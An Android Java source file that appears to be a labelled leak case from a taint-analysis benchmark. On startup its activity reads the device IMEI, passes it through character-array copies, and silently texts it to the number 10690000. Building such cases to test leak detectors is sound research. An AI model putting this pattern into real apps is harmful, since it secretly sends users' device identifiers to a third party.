// about       A text is made of some characters of the value.
// leak        DEV_IMEI sms
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.Arrays;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    char[] letters = new char[20];
    Arrays.fill(letters, '0');
    String id = phone.getDeviceId();
    id.getChars(0, 8, letters, 0);
    letters[9] = '1';
    String text = String.valueOf(letters, 2, 4) + String.copyValueOf(letters);
    SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
  }
}
